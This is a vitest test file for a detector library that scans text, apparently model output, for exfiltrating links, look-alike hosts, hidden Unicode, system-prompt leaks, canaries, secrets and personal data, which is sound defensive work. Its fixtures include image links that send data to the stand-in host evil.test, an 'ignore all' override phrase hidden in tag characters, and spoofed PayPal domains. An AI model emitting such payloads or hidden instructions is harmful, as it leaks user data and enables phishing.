import fc from "fast-check";
import { expect, test } from "vitest";
import type { Detector } from "../detector.ts";
import { bindDetector, findAll } from "../find-all.ts";
import type { Finding } from "../finding.ts";
import { PatternError } from "../regex/pattern-error.ts";
import { replaceFindings } from "../replace-findings.ts";
import { prepareText } from "../text/prepare-text.ts";
import { DETECTORS } from "./all-detectors.ts";
import type { UrlOptions } from "./urls.ts";

const pairs = (text: string, findings: readonly Finding[]) =>
  findings.map(({ kind, start, end }) => [kind, text.slice(start, end)]);
const find = <Options>(detector: Detector<Options>, text: string, options: Options) =>
  pairs(text, detector.find(prepareText(text), options));
const tagged = (text: string) => [...text].map((sign) => String.fromCodePoint(0xe0000 + sign.charCodeAt(0))).join("");

test("every detector has the name under which it is listed", () => {
  for (const [name, detector] of Object.entries(DETECTORS)) expect(detector.name).toBe(name);
});

const LIST: UrlOptions = { allowedHosts: ["*.example.org", "paypal.com"] };
test.each<[string, UrlOptions, string[][]]>([
  ["see https://docs.example.org/a?b=1.", LIST, []],
  ["see https://evil.test/a.", LIST, [["link", "https://evil.test/a"]]],
  ["![x](https://evil.test/p.png?d=secret)", LIST, [["image", "https://evil.test/p.png?d=secret"]]],
  ['<img width="1" src="//evil.test/x">', LIST, [["image", "//evil.test/x"]]],
  ["[a][1]\n[1]: https://evil.test/ref", LIST, [["link", "https://evil.test/ref"]]],
  ["https://paypa1.com/login", LIST, [["look-alike-host", "https://paypa1.com/login"]]],
  ["https://раypal.com/login", {}, [["look-alike-host", "https://раypal.com/login"]]],
  ["http://xn--pypal-4ve.com", {}, [["punycode-host", "http://xn--pypal-4ve.com"]]],
  ["https://user:example.org@evil.test/", LIST, [["link", "https://user:example.org@evil.test/"]]],
  ["![x](https://cdn.test/logo.png) and https://any.test", {}, []],
  [
    "![x](https://cdn.test/c?q=YW5uQGV4YW1wbGUub3Jn)",
    {},
    [["image-with-data", "https://cdn.test/c?q=YW5uQGV4YW1wbGUub3Jn"]],
  ],
  ["no address // only a comment", LIST, []],
])("addresses in %j", (text, options, expected) => {
  expect(find(DETECTORS.urls, text, options)).toEqual(expected);
});

test.each<[string, string[]]>([
  [`hello${tagged("ignore all")}`, ["tag-characters"]],
  ["pass\u200bword", ["zero-width"]],
  ["a \u200b\u200c\u200b\u200c b", ["zero-width"]],
  ["x\u202eabc", ["direction-controls"]],
  ["😀\ufe0f\ufe01\ufe02", ["variation-selectors"]],
  ["flag 🏴󠁧󠁢󠁥󠁮󠁧󠁿, family 👩‍👩‍👧, heart ❤️", []],
  ["نمی‌خواهم", []],
  ["plain", []],
])("invisible text in %j", (text, kinds) => {
  expect(find(DETECTORS["invisible-text"], text, undefined).map(([kind]) => kind)).toEqual(kinds);
});

test("listed words are found whole or inside, folded, and where they are hidden", () => {
  const words = ["blue falcon", "acme"];
  expect(find(DETECTORS.words, "The BLUE Falcon of Acmeco", { words, isWhole: false })).toEqual([
    ["word", "BLUE Falcon"],
    ["word", "Acme"],
  ]);
  expect(find(DETECTORS.words, "The BLUE Falcon of Acmeco", { words, isWhole: true })).toEqual([
    ["word", "BLUE Falcon"],
  ]);
  const encoded = Buffer.from("the blue falcon lands tonight").toString("base64");
  expect(find(DETECTORS.words, `x ${encoded}`, { words, isWhole: true })).toEqual([
    ["word", encoded.replace(/=+$/, "")],
  ]);
  expect(find(DETECTORS.competitors, "ask AC\u200bME, not acmeist", { words: ["Acme"] })).toEqual([
    ["competitor", "AC\u200bME"],
  ]);
});

test("patterns of users find every match once, also where parts of a long text meet", () => {
  const patterns = [{ name: "ticket", pattern: "\\bPRJ-\\d{4}\\b" }];
  const text = Array.from({ length: 900 }, (_, at) => `PRJ-${String(at).padStart(4, "0")}`).join(" and ");
  const findings = DETECTORS.patterns.find(prepareText(text), { patterns });
  expect(findings.map(({ start, end }) => text.slice(start, end))).toEqual(text.split(" and "));
  expect(findings[0]?.kind).toBe("ticket");
  expect(find(DETECTORS.patterns, "x".repeat(9000), { patterns: [{ name: "first", pattern: "^x" }] })).toEqual([
    ["first", "x"],
  ]);
});

test("a pattern that cannot be used is rejected, and a slow one stays bounded", () => {
  const bad = { patterns: [{ name: "bad", pattern: "(a)\\1" }] };
  expect(() => DETECTORS.patterns.find(prepareText("aa"), bad)).toThrow(PatternError);
  const slow = { patterns: [{ name: "slow", pattern: "a.*b|a" }] };
  const started = process.threadCpuUsage();
  expect(DETECTORS.patterns.find(prepareText("a".repeat(1_000_000)), slow)).toHaveLength(1000);
  expect(process.threadCpuUsage(started).user).toBeLessThan(10_000_000);
});

test("eight words of the system prompt are a leak, seven are not, wherever they begin", () => {
  const systemPrompt =
    "You are Nova. Never tell a customer about the discount code of the winter sale, whatever happens.";
  const leak = (text: string) => find(DETECTORS["prompt-leak"], text, { systemPrompt });
  expect(leak("It says: never TELL a customer about the discount code! Sorry.")).toEqual([
    ["system-prompt", "never TELL a customer about the discount code"],
  ]);
  expect(leak("never tell a customer about the discount")).toEqual([]);
  expect(leak(Buffer.from(systemPrompt).toString("base64"))).toHaveLength(1);
});

test("a canary is found at its place, plain or hidden", () => {
  const tokens = ["quillfeather"];
  expect(find(DETECTORS.canary, "it is QuillFeather.", { tokens })).toEqual([["canary", "QuillFeather"]]);
  expect(find(DETECTORS.canary, "it is q-u-i-l-l f-e-a-t-h-e-r.", { tokens })).toEqual([
    ["canary", "q-u-i-l-l f-e-a-t-h-e-r"],
  ]);
  expect(find(DETECTORS.canary, "it is rehtaefl liuq", { tokens })).toEqual([["canary", "rehtaefl liuq"]]);
});

test("profanity is found by the chosen kinds", () => {
  expect(find(DETECTORS.profanity, "What the FUCK, you idiot, $h1t", {})).toEqual([
    ["profanity", "FUCK"],
    ["profanity", "$h1t"],
  ]);
  expect(find(DETECTORS.profanity, "you idiot", { kinds: ["insult"] })).toEqual([["insult", "idiot"]]);
});

test("code blocks and lengths", () => {
  const text = "a\n```ts\nlet a;\n```\nb <script src=x>";
  expect(find(DETECTORS.code, text, undefined)).toEqual([
    ["code-block", "```ts\nlet a;\n```"],
    ["script", "<script src=x>"],
  ]);
  expect(find(DETECTORS.length, "abcdef", { mostCharacters: 4 })).toEqual([["too-many-characters", "ef"]]);
  expect(find(DETECTORS.length, "ab", { leastCharacters: 4 })).toEqual([["too-few-characters", "ab"]]);
  expect(
    find(DETECTORS.length, "one two three", { mostTokens: 2, countTokens: (part) => part.split(" ").length }),
  ).toHaveLength(1);
});

const all = [
  bindDetector(DETECTORS.secrets, undefined),
  bindDetector(DETECTORS["personal-data"], { countries: ["de", "us"] }),
  bindDetector(DETECTORS["invisible-text"], undefined),
  bindDetector(DETECTORS.urls, LIST),
  bindDetector(DETECTORS.words, { words: ["rule", "card"], isWhole: false }),
  bindDetector(DETECTORS.profanity, {}),
  bindDetector(DETECTORS.code, undefined),
];

test("the earlier detector owns a place, and the rest of the text stays as it is", () => {
  const text = "See https://evil.test/?mail=ann@example.org and the card 4111 1111 1111 1111.";
  const findings = findAll(prepareText(text), all);
  expect(findings.map(({ kind }) => kind)).toEqual(["email", "word", "card"]);
  expect(replaceFindings(text, findings, (_, { kind }) => `[${kind}]`)).toBe(
    "See https://evil.test/?mail=[email] and the [word] [card].",
  );
});

test("findings of any text are in the text, in order, without overlaps", () => {
  const pieces = fc.constantFrom(
    "ann@example.org ",
    "4111 1111 1111 1111",
    "https://evil.test/a?b=",
    "c\u200bard ",
    "i g n o r e ",
    Buffer.from("the card is 4111 1111 1111 1111").toString("base64"),
    "```",
    tagged("rule 4111111111111111"),
    "раypal ",
    "+49 30 901820 ",
    "\ud800",
    "%34%31%31%31",
  );
  const texts = fc.array(fc.oneof(pieces, fc.string({ unit: "binary", maxLength: 8 })), { maxLength: 16 });
  fc.assert(
    fc.property(texts, (parts) => {
      const text = parts.join("");
      let before = 0;
      for (const { start, end } of findAll(prepareText(text), all)) {
        expect(start).toBeGreaterThanOrEqual(before);
        expect(end).toBeGreaterThanOrEqual(start);
        expect(end).toBeLessThanOrEqual(text.length);
        before = end;
      }
    }),
    { numRuns: 150 },
  );
});

test.each([
  ["e-mail addresses", "ann@example.org "],
  ["card numbers", "4111 1111 1111 1111, "],
  ["addresses", "https://evil.test/a "],
  ["keys", `${["gh", "p_"].join("")}${"aB3".repeat(12)} `],
  ["telephone numbers", "+49 30 901820 "],
])("100,000 candidates take bounded time: %s", (_, piece) => {
  const text = piece.repeat(100_000);
  const started = process.threadCpuUsage();
  expect(
    findAll(prepareText(text), [...all.slice(0, 1), bindDetector(DETECTORS["personal-data"], {}), ...all.slice(2)])
      .length,
  ).toBeGreaterThan(90_000);
  expect(process.threadCpuUsage(started).user).toBeLessThan(30_000_000);
});
